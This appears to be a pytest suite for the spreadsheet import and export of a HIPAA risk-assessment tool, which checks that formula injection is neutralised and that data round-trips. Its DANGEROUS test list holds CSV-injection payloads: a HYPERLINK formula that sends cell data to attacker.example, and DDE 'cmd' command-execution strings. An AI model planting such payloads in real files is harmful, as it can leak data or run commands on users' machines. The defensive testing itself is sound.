"""Cells a spreadsheet would run: formulas on import, formula injection on export."""

from __future__ import annotations

import csv
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from hipaa_sra.cli import cli
from hipaa_sra.interop.spreadsheet import neutralise, read_sheets, restore
from hipaa_sra.interop.tables import SHEET_KIND_BY_NAME, from_cell, resolve
from hipaa_sra.loading import load_workspace
from xlsx_parts import build, row, text

BASE = Path(__file__).parent / "rules" / "base"
DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab-led text",
    "\rCR-led text",
]
QUOTED = ["'=already quoted", "''+two quotes", "'plain quote", "'", "'-", "- a list-like line"]


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def _files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*.yaml"))}


@pytest.fixture
def base(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    shutil.copytree(BASE, root)
    return root


def _with_values(root: Path, values: list[str]) -> Path:
    """`root` with one risk per value, the value as its threat and (reversed) its vuln."""
    records = []
    for number, value in enumerate(values):
        records.append(
            f"- id: RX-{number}\n  asset: api\n  threat: {json.dumps(value)}\n"
            f"  vuln: {json.dumps(value[::-1])}\n  likelihood: low\n  impact: low\n"
            f"  current_controls: [{json.dumps(value)}, CTL-ACCESS]\n"
        )
    (root / "register" / "cells.yaml").write_text("".join(records))
    loaded = {risk.id: risk.threat for risk in load_workspace(root, use_cache=False).risks}
    assert [loaded[f"RX-{n}"] for n in range(len(values))] == values
    return root


def test_csv_export_neutralises_every_formula_prefix_and_round_trips(base, tmp_path):
    root = _with_values(base, DANGEROUS + QUOTED)
    before = _files(root)
    assert (
        _run(
            "export",
            "--format",
            "csv",
            "--kinds",
            "risks",
            "--out",
            str(tmp_path / "o"),
            "-w",
            str(root),
        )[0]
        == 0
    )
    path = tmp_path / "o" / "risks.csv"
    cells = [
        cell for line in csv.reader(path.open(encoding="utf-8-sig", newline="")) for cell in line
    ]
    # What a spreadsheet opening the file sees first in each cell: never a formula start.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in DANGEROUS:
        assert "'" + value in cells
    assert "'''+two quotes" in cells and "'plain quote" in cells and "''-" in cells
    code, stdout, stderr = _run("import", str(path), "-w", str(root), "--apply")
    assert code == 0, stderr
    assert "0 to update, 0 to add" in stdout
    assert _files(root) == before


def test_xlsx_export_stores_formula_like_text_as_text_and_round_trips(base, tmp_path):
    # XML turns a stored carriage return into a line feed, so "\r..." is checked with CSV only.
    values = [value for value in DANGEROUS if not value.startswith("\r")] + QUOTED
    root = _with_values(base, values)
    before = _files(root)
    out = tmp_path / "r.xlsx"
    assert (
        _run("export", "--format", "xlsx", "--kinds", "risks", "--out", str(out), "-w", str(root))[
            0
        ]
        == 0
    )
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula
    stored = [c.value for r in load_workbook(out)["risks"].iter_rows() for c in r]
    assert all(value in stored for value in values)  # as written, no quote added
    code, stdout, stderr = _run("import", str(out), "-w", str(root), "--apply")
    assert code == 0, stderr
    assert "0 to update, 0 to add" in stdout
    assert _files(root) == before


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab \n"), max_size=8) | st.text(max_size=20))
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_restore_keeps_cells_it_did_not_make() -> None:
    assert restore("'plain") == "'plain" and restore("=typed") == "=typed"
    assert restore("'=typed as text in a spreadsheet") == "=typed as text in a spreadsheet"


def _refresh_days(path: Path) -> object:
    """The refresh_days cell of the sheet's first row, as the importer reads it."""
    sheet = read_sheets(path)[0]
    controls = SHEET_KIND_BY_NAME["controls"]
    column = resolve(controls, "evidence.1.refresh_days")
    assert column is not None
    return from_cell(column.leaf, sheet.rows[0][1][sheet.header.index(column.header)])


def test_negative_numbers_in_number_columns_read_as_numbers(base, tmp_path):
    path = tmp_path / "controls.csv"
    path.write_text("id,evidence.1.refresh_days\nCTL-ACCESS,-5\n")
    assert _refresh_days(path) == -5
    code, _, stderr = _run("import", str(path), "-w", str(base))
    assert code == 1 and "controls:2:B: evidence.1.refresh_days:" in stderr
    assert "not a whole number" not in stderr  # the model refuses the number, not the text
    workbook = build(
        tmp_path / "controls.xlsx",
        {
            "controls": row(1, text("A1", "id"), text("B1", "evidence.1.refresh_days"))
            + row(2, text("A2", "CTL-ACCESS"), '<c r="B2"><v>-5</v></c>')
        },
    )
    assert _refresh_days(workbook) == -5


def _exported_with_formulas(root: Path, tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / "r.xlsx"
    _run("export", "--format", "xlsx", "--kinds", "risks", "--out", str(out), "-w", str(root))
    book = load_workbook(out)
    sheet = book["risks"]
    names = [cell.value for cell in sheet[1]]
    column = names.index("residual_risk") + 1
    sheet.cell(row=2, column=column, value='=IF(E2="low","low","high")')  # openpyxl: no value
    sheet.cell(row=1, column=len(names) + 1, value="Colour")
    sheet.cell(row=2, column=len(names) + 1, value="=A2")  # unmapped: never read
    book.save(out)
    return out, sheet.cell(row=2, column=column).coordinate


def test_formula_without_a_saved_value_is_refused_naming_the_cell(base, tmp_path):
    out, cell = _exported_with_formulas(base, tmp_path)
    before = _files(base)
    code, stdout, stderr = _run("import", str(out), "-w", str(base), "--apply")
    assert code == 1, stdout
    letter = cell.rstrip("0123456789")
    assert (
        f'{out}:risks:2:{letter}: residual_risk: formula =IF(E2="low","low","high") '
        "has no saved value"
    ) in stderr
    assert "1 problems; nothing written" in stderr  # the unmapped formula is not a problem
    assert _files(base) == before  # before: read as empty, and --apply removed residual_risk


def test_formula_with_a_saved_value_imports_that_value_with_a_note(base, tmp_path):
    formula = '<c r="B{n}" t="str"><f>IF(1,"high","low")</f><v>high</v></c>'
    empty = '<c r="B4" t="str"><f>IF(A4="","","x")</f><v></v></c>'  # a template's spare row
    sheet = (
        row(1, text("A1", "id"), text("B1", "likelihood"))
        + row(2, text("A2", "RR-1"), formula.format(n=2))
        + row(3, text("A3", "RR-2"), formula.format(n=3))
        + row(4, empty)
    )
    path = build(tmp_path / "saved.xlsx", {"risks": sheet})
    code, stdout, stderr = _run("import", str(path), "-w", str(base), "--apply")
    assert code == 0, stderr
    assert (
        f'{path}:risks:2:B: likelihood: formula =IF(1,"high","low") read as its saved '
        "value 'high' (and 1 more in this column)"
    ) in stdout
    risks = load_workspace(base, use_cache=False).risk_by_id
    assert risks["RR-1"].likelihood.value == "high" and risks["RR-2"].likelihood.value == "high"


def test_error_values_are_refused(base, tmp_path):
    sheet = row(1, text("A1", "id"), text("B1", "threat"), text("C1", "vuln")) + row(
        2,
        text("A2", "RR-1"),
        '<c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        '<c r="C2" t="e"><v>#N/A</v></c>',
    )
    path = build(tmp_path / "errors.xlsx", {"risks": sheet})
    code, _, stderr = _run("import", str(path), "-w", str(base))
    assert code == 1
    assert "risks:2:B: threat: formula =1/0 gives the error #DIV/0!" in stderr
    assert "risks:2:C: vuln: holds the error #N/A" in stderr


def test_xlsx_export_refuses_a_value_longer_than_a_cell_instead_of_cutting_it(base, tmp_path):
    risks = base / "register" / "risks.yaml"
    risks.write_text(
        risks.read_text()
        + "- id: RR-LONG\n  asset: api\n  threat: "
        + "x" * 40_000
        + "\n  vuln: v\n  likelihood: low\n  impact: low\n"
    )
    code, _, stderr = _run(
        "export", "--format", "xlsx", "--out", str(tmp_path / "r.xlsx"), "-w", str(base)
    )
    assert code == 2
    assert (
        "risks RR-LONG, column threat: the value is 40,000 characters long; an XLSX cell "
        "holds at most 32,767; export as CSV instead"
    ) in stderr
    assert not (tmp_path / "r.xlsx").exists()


def test_objects_nested_two_deep_are_json_cells_that_round_trip(base, tmp_path):
    risks = base / "register" / "risks.yaml"
    risks.write_text(
        risks.read_text()
        + (
            "- id: RR-QUANT\n  asset: api\n  threat: t\n  vuln: v\n  likelihood: low\n"
            "  impact: low\n  quant:\n    frequency: {min: 0.02, most_likely: 0.1, max: 0.4}\n"
            "    planned:\n      - {remediation: Rotate keys, reduction: 0.7}\n"
        )
    )
    before = _files(base)
    path = tmp_path / "o" / "risks.csv"
    _run(
        "export", "--format", "csv", "--kinds", "risks", "--out", str(path.parent), "-w", str(base)
    )
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    quant = next(r for r in rows if r["id"] == "RR-QUANT")
    assert json.loads(quant["quant.frequency"]) == {"min": 0.02, "most_likely": 0.1, "max": 0.4}
    assert json.loads(quant["quant.planned"]) == [{"remediation": "Rotate keys", "reduction": 0.7}]
    code, stdout, stderr = _run("import", str(path), "-w", str(base), "--apply")
    assert code == 0 and "0 to update" in stdout, stderr
    assert _files(base) == before
    quant["quant.frequency"] = "{min: 1"
    with path.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerow(quant)
    code, _, stderr = _run("import", str(path), "-w", str(base))
    assert code == 1
    assert (
        "quant.frequency: not a JSON object (Expecting property name enclosed in double "
        "quotes)" in stderr
    )
